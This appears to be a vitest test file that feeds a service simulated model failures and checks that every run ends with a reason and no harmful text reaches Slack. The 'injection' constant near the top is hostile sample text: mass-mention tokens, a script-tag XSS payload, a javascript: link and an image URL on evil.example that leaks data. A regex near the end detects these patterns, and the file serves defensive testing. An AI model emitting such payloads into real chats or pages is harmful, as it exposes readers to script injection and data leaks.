import { expect, test } from 'vitest'
import { useSlack } from '#tests/engine/deliveries/chats.ts'
import { type Behaviour, finish, provider } from '#tests/engine/runs/support/provider.ts'
import { figures, untilOver } from './support/figures.ts'
import { openWork } from './support/ledger.ts'
import { World } from './support/world.ts'

const slack = useSlack()

/** Text of a customer that a model repeats: to everybody, with scripts and addresses that run them. */
const injection =
  '<!channel> <!everyone> @here <script>alert(1)</script> [press](javascript:alert(1)) ![x](https://evil.example/?leak=1)'

const behaviours: Record<string, Behaviour> = {
  writes: finish('All is well.'),
  'is overloaded': { status: 529 },
  'is broken': { status: 500, body: 'oops' },
  'answers garbage': { status: 200, body: '{"choices": 7}' },
  'answers half a text': { status: 200, body: '{"choices": [{"mess' },
  'calls what does not exist': { calls: [{ name: 'delete_everything', arguments: {} }] },
  'calls with garbage': { calls: [{ name: 'finish', arguments: '{"text": ' }] },
  'says nothing': { text: '' },
  'repeats what a stranger told it': finish(injection),
}

/** Milliseconds until every run has ended, with its tries. */
const endMs = 300_000

/** Two in five start a run, and five are under way at once: more would not end in time. */
const mostAnswers = 60

test('models fail in every way; each run ends with a reason, and no text does harm', async () => {
  const all = Object.values(behaviours)
  const usual: Behaviour = finish('All is well.')
  const model = await provider('compatible:x', [
    // It hangs at first, beside all that follows. Afterwards every second answer is good, and then each: a run that met
    // three bad ones in a row, or a bad one after it had hung, would take longer than the part has.
    'hang',
    ...[...all, ...all].flatMap((it) => [it, usual]),
    usual,
  ])
  const { SIGNALBOX_MODEL_BASE_URL: url = '' } = model.settings
  const levels = Object.fromEntries(
    ['LOW', 'MED', 'HIGH'].map((it) => [`SIGNALBOX_MODEL_${it}`, 'compatible:x']),
  )
  const env = { ...levels, SIGNALBOX_MODEL_BASE_URL: url, SIGNALBOX_COMPATIBLE_API_KEY: 'key' }
  const world = await World.open({ slack, env })
  slack.state.mayRead = true
  for (const hasTime = untilOver(); hasTime() && world.load.answered.length < mostAnswers; )
    await world.load.answers(10)
  await world.load.stop()
  const ends = await world.inDatabase(async (db) => {
    await expect.poll(() => openWork(db, world.orgId), { timeout: endMs, interval: 500 }).toBe(0)
    const { rows } = await db.pool.query<{ status: string; reason: string | null; n: number }>(
      `SELECT status, reason, count(*)::int AS n FROM runs WHERE org_id = $1 AND cause IN ('event', 'manual')
        AND reason IS DISTINCT FROM 'paused' GROUP BY 1, 2`,
      [world.orgId],
    )
    return rows
  })
  const posts = slack.received.map(({ body }) => decodeURIComponent(body.replaceAll('+', ' ')))
  const harmful = posts.filter((it) => /<!(channel|everyone|here)>|<script|javascript:/.test(it))
  figures('models')({
    ...Object.fromEntries(ends.map(({ status, reason, n }) => [`runs ${status} ${reason ?? ''}`.trim(), n])),
    'harmful posts': harmful.length,
  })
  expect(harmful).toEqual([])
  expect(ends.filter(({ status, reason }) => status === 'failed' && reason === null)).toEqual([])
  expect(ends.some(({ status }) => status === 'succeeded')).toBe(true)
})
